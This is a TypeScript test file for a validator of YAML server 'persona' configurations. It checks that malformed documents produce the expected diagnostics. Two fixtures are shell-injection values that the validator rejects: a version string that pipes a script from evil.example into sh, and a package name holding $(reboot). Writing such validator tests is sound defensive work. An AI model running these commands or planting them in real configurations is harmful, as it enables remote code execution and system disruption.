      },
    ],
  },
  {
    title: "a software version given twice",
    text: doc("Name: Web", "SoftwareStack:", "  - Nginx 1.24 (version 1.25)"),
    diagnostics: [
      {
        at: "3:5",
        code: "invalid-software",
        message: "software entry 'Nginx 1.24 (version 1.25)' gives its version twice",
        hint: "keep either the version after the name or the one in parentheses",
      },
    ],
  },
  {
    title: "a version that is not semver",
    text: doc("Name: Web", 'Version: "1.2"'),
    diagnostics: [
      {
        at: "2:10",
        code: "invalid-version",
        message: "version '1.2' is not a semantic version",
        hint: "write MAJOR.MINOR.PATCH, e.g. '1.2.0' (quoted)",
      },
    ],
  },
  {
    title: "a version written as a number",
    text: doc("Name: Web", "Version: 1.2"),
    diagnostics: [
      {
        at: "2:10",
        code: "wrong-type",
        message: "'Version': expected text, received number 1.2",
        hint: "quote the value",
      },
    ],
  },
  {
    title: "an unreadable Extends",
    text: doc("Name: Web", 'Extends: "web base"'),
    diagnostics: [
      {
        at: "2:10",
        code: "invalid-extends",
        message: "cannot read Extends 'web base'",
        hint: "write a persona name, optionally with a version range: 'WebBase@^1.2'",
      },
    ],
  },
  {
    title: "a persona name with a space",
    text: doc("Name: high traffic"),
    diagnostics: [
      {
        at: "1:7",
        code: "invalid-name",
        message:
          "persona name 'high traffic' must start with a letter and use only letters, digits, '-' and '_'",
        hint: "rename it, e.g. 'HighTraffic'",
      },
    ],
  },
  {
    title: "a Name that is not text",
    text: doc("Name: true"),
    diagnostics: [
      {
        at: "1:7",
        code: "wrong-type",
        message: "'Name': expected text, received boolean true",
        hint: "quote the value",
      },
    ],
  },
  {
    title: "an architecture that does not exist, with the nearest one",
    text: doc("Name: Web", "BaseConfiguration:", "  Architecture: arm"),
    diagnostics: [
      {
        at: "3:17",
        code: "invalid-value",
        message:
          "'BaseConfiguration.Architecture': expected one of 'x86_64', 'arm64', received the text 'arm'",
        hint: "did you mean 'arm64'?",
      },
    ],
  },
  {
    title: "a feature's initial state that is neither on nor off",
    text: doc("Name: Web", "Features:", "  - Name: CDN caching", "    Initial: maybe"),
    diagnostics: [
      {
        at: "4:14",
        code: "invalid-value",
        message: "'Features[0].Initial': expected one of 'on', 'off', received the text 'maybe'",
      },
    ],
  },
  {
    title: "a section that should be a list",
    text: doc("Name: Web", "TelemetryTriggers:", "  Condition: CPU Load > 80%"),
    diagnostics: [
      {
        at: "3:3",
        code: "wrong-type",
        message: "'TelemetryTriggers': expected a list, received a mapping",
        hint: "write a list: one '- item' per line",
      },
    ],
  },
  {
    title: "a section that should be a mapping",
    text: doc("Name: Web", "BaseConfiguration: 8 cores"),
    diagnostics: [
      {
        at: "2:20",
        code: "wrong-type",
        message: "'BaseConfiguration': expected a mapping, received the text '8 cores'",
        hint: "write a mapping: 'Key: value' lines indented under this key",
      },
    ],
  },
  {
    title: "a key written twice",
    text: doc("Name: Web", "Name: Other"),
    diagnostics: [
      { at: "2:1", code: "duplicate-key", message: "key 'Name' appears twice", hint: "keep one of them" },
    ],
  },
  {
    title: "a key written twice in two spellings",
    text: doc("Name: Web", "name: Other"),
    diagnostics: [
      { at: "2:1", code: "duplicate-key", message: "key 'name' repeats 'Name'", hint: "keep one of them" },
    ],
  },
  {
    title: "a YAML syntax error: an unclosed quote",
    text: doc('Name: "Web'),
    diagnostics: [
      {
        at: "1:11",
        code: "yaml-syntax",
        message: 'YAML syntax error: Missing closing "quote',
        hint: YAML_HINT,
      },
    ],
  },
  {
    title: "a YAML syntax error: tab indentation",
    text: doc("Name: Web", "BaseConfiguration:", "\tCPU: 2"),
    diagnostics: [
      {
        at: "3:1",
        code: "yaml-syntax",
        message: "YAML syntax error: Tabs are not allowed as indentation",
        hint: YAML_HINT,
      },
    ],
  },
  {
    title: "a YAML syntax error: a key indented too far",
    text: doc("Name: Web", "BaseConfiguration:", "  CPU: 2 cores", "   Memory: 4 GB"),
    diagnostics: [
      {
        at: "3:8",
        code: "yaml-syntax",
        message: "YAML syntax error: Nested mappings are not allowed in compact mappings",
        hint: YAML_HINT,
      },
      {
        at: "3:8",
        code: "yaml-syntax",
        message: "YAML syntax error: Implicit keys need to be on a single line",
        hint: YAML_HINT,
      },
    ],
  },
  {
    title: "an empty document",
    text: doc(),
    diagnostics: [
      {
        at: "1:1",
        code: "not-a-persona",
        message: "a persona document must be a mapping of sections, received an empty value",
        hint: NOT_A_PERSONA_HINT,
      },
    ],
  },
  {
    title: "a document with only a comment",
    text: doc("# nothing here yet"),
    diagnostics: [
      {
        at: "1:1",
        code: "not-a-persona",
        message: "a persona document must be a mapping of sections, received an empty value",
        hint: NOT_A_PERSONA_HINT,
      },
    ],
  },
  {
    title: "a list at the root",
    text: doc("- Name: Web"),
    diagnostics: [
      {
        at: "1:1",
        code: "not-a-persona",
        message: "a persona document must be a mapping of sections, received a list",
        hint: NOT_A_PERSONA_HINT,
      },
    ],
  },
  {
    title: "text at the root",
    text: doc("just text"),
    diagnostics: [
      {
        at: "1:1",
        code: "not-a-persona",
        message: "a persona document must be a mapping of sections, received the text 'just text'",
        hint: NOT_A_PERSONA_HINT,
      },
    ],
  },
  {
    title: "a structured software entry without a name",
    text: doc("Name: Web", "SoftwareStack:", '  - name: ""', "    version: latest"),
    diagnostics: [
      {
        at: "3:11",
        code: "invalid-software",
        message: "a software entry needs a name",
        hint: "write e.g. 'name: Nginx'",
      },
    ],
  },
  {
    title: "a structured software version that would inject a shell command (issue 13, finding 5)",
    text: doc(
      "Name: Web",
      "SoftwareStack:",
      "  - name: nginx",
      '    version: "1.2; curl https://evil.example | sh"',
    ),
    diagnostics: [
      {
        at: "4:14",
        code: "invalid-software",
        message:
          "software 'nginx' has version \"1.2; curl https://evil.example | sh\", which is not a package version",
        hint: "write 'latest' or a version such as '1.24': a digit, then letters, digits and . + ~ _ - * (at most 64 characters)",
      },
    ],
  },
  {
    title: "a structured software name with shell syntax",
    text: doc("Name: Web", "SoftwareStack:", '  - name: "nginx$(reboot)"'),
    diagnostics: [
      {
        at: "3:11",
        code: "invalid-software",
        message: 'software name "nginx$(reboot)" is not a package name',
        hint: "write words of letters, digits and . + _ -, e.g. 'name: Nginx' or 'name: Prometheus Node Exporter'",
      },
    ],
  },
  {
    title: "a response name without letters or digits",
    text: doc("Name: Web", "AutomatedResponses:", '  - Name: "!!!"', "    Action: Notify ops-team"),
    diagnostics: [
      {
        at: "3:11",
        code: "invalid-name",
        message: "response name '!!!' has no letters or digits",
        hint: "name it, e.g. 'scale-out'",
      },
    ],
  },
  {
    title: "a source name without letters or digits",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      '  - Name: "--"',
      "    URL: https://feeds.example.com/drop.txt",
      "    Frequency: 5 minutes",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "3:11",
        code: "invalid-name",
        message: "source name '--' has no letters or digits",
        hint: "name it, e.g. 'threat-feed'",
      },
    ],
  },
  {
    title: "a negative csv column",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.csv",
      "    Frequency: 5 minutes",
      "    Format: csv",
      "    Column: -1",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "6:13",
        code: "invalid-column",
        message: "Column '-1' is neither a 0-based index nor a header name",
        hint: "write e.g. 'Column: 0' or 'Column: ip'",
      },
    ],
  },
  {
    title: "a notification message over 1000 characters",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      `    Action: "Notify ops-team: ${"x".repeat(1001)}"`,
    ),
    diagnostics: [
      {
        at: "4:13",
        code: "unknown-action",
        message: `action 'Notify ops-team: ${"x".repeat(43)}…': message too big: expected string to have <=1000 characters`,
        hint: "shorten or correct the message",
      },
    ],
  },
];

describe("invalid persona documents", () => {
  it("cover at least 40 distinct problems", () => {
    expect(INVALID.length).toBeGreaterThanOrEqual(40);
    expect(new Set(INVALID.map((c) => c.title)).size).toBe(INVALID.length);
  });

  it.each(INVALID)("reports $title", ({ text, diagnostics }) => {
    // Act
    const outcome = validatePersonaText(text, { file: "Web.yaml" });

    // Assess
    expect(outcome.diagnostics.map(seen)).toEqual(diagnostics);
    expect(outcome.valid).toBe(false);
    expect(outcome.persona).toBeUndefined();
    for (const diagnostic of outcome.diagnostics) expect(diagnostic.file).toBe("Web.yaml");
  });

  it.each(INVALID)("throws PersonaValidationError for $title", ({ text, diagnostics }) => {
    let thrown: unknown;
    try {
      parsePersona(text, { file: "Web.yaml" });
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(PersonaValidationError);
    expect((thrown as PersonaValidationError).diagnostics.map(seen)).toEqual(diagnostics);
  });
});

describe("a document with many problems", () => {
  const text = doc(
    "BaseConfiguration:",
    "  CPU: 0 cores",
    "  Memory: 32 cores",
    "SoftwareStack:",
    "  - Nginx",
    "  - Nginx",
    "TelemetryTriggers:",
    "  - Condition: CPU Load > 120%",
    "    Action: Scale upp to 16 cores",
    "  - Condition: Network Latency > 100ms",
    "    Action: Update firewall rules to block malicious IPs",
    "ExternalDataSources:",
    "  - URL: http://feeds.example.com/drop.txt",
    "    Frequency: 10s",
    "    Action: Block listed addresses",
    "Colour: blue",
  );

  it("reports every problem at once, sorted by position", () => {
    // Act
    const outcome = validatePersonaText(text, { file: "Web.yaml" });

    // Assess
    expect(outcome.diagnostics.map((d) => `${d.line}:${d.column} ${d.code} ${d.path}`)).toEqual([
      "2:8 invalid-cpu BaseConfiguration.CPU",
      "3:11 invalid-quantity BaseConfiguration.Memory",
      "6:5 duplicate-software SoftwareStack[1]",
      "8:16 invalid-condition TelemetryTriggers[0].Condition",
      "9:13 unknown-action TelemetryTriggers[0].Action",
      "11:13 action-not-allowed TelemetryTriggers[1].Action",
      "13:10 insecure-url ExternalDataSources[0].URL",
      "14:16 frequency-too-short ExternalDataSources[0].Frequency",
      "16:1 unknown-key Colour",
    ]);
  });

  it("throws one PersonaValidationError carrying all of them, with a compiler-style report", () => {
    // Act
    let thrown: unknown;
    try {
      parsePersona(text, { file: "Web.yaml" });
    } catch (error) {
      thrown = error;
    }

    // Assess
    expect(thrown).toBeInstanceOf(PersonaValidationError);
    const error = thrown as PersonaValidationError;
    expect(error.code).toBe("PDL_INVALID");
    expect(error.file).toBe("Web.yaml");
    expect(error.diagnostics).toHaveLength(9);
    expect(error.message.split("\n").slice(0, 9)).toEqual([
      "Web.yaml: 9 errors in persona",
      "Web.yaml:2:8: error: CPU '0 cores' must be a whole number of cores from 1 to 448",
      "    2 |   CPU: 0 cores",
      "      |        ^^^^^^^",
      "  hint: write e.g. '8 cores'",
      "Web.yaml:3:11: error: expected a memory size, received '32 cores' ('cores' measures vCPUs)",
      "    3 |   Memory: 32 cores",
      "      |           ^^^^^^^^",
      "  hint: use one of: GB, GiB, MB, MiB, TB, TiB",
    ]);
  });
});

describe("formatDiagnostic", () => {
  it("prints file:line:col, the line with a caret underline, and the hint", () => {
    // Prepare
    const text = doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80% for 5 minutes",
      "    Action: Scale upp to 16 cores",
    );
    const [diagnostic] = validatePersonaText(text, { file: "Web.yaml" }).diagnostics;

    // Act
    const formatted = formatDiagnostic(diagnostic!, new SourceMap(text));

    // Assess
    expect(formatted).toBe(
      [
        "Web.yaml:4:13: error: unknown action 'Scale upp to 16 cores'",
        "    4 |     Action: Scale upp to 16 cores",
        "      |             ^^^^^^^^^^^^^^^^^^^^^",
        `  hint: did you mean 'Scale up to 16 cores'? accepted forms: ${ACCEPTED_ACTION_FORMS}`,
      ].join("\n"),
    );
  });

  it("prints only the head and hint without the source", () => {
    const diagnostic: Diagnostic = {
      severity: "warning",
      code: "undeclared-feature",
      message: "feature 'cdn-caching' is not declared under Features, so switching it only records its state",
      hint: "add a Features entry named 'cdn-caching' with Activate and Deactivate scripts to make it do something",
      file: "HighTraffic.yaml",
      line: 15,
      column: 15,
      length: 20,
      path: "TelemetryTriggers[1].Action",
    };

    expect(formatDiagnostic(diagnostic)).toBe(
      [
        "HighTraffic.yaml:15:15: warning: feature 'cdn-caching' is not declared under Features, so switching it only records its state",
        "  hint: add a Features entry named 'cdn-caching' with Activate and Deactivate scripts to make it do something",
      ].join("\n"),
    );
  });
});
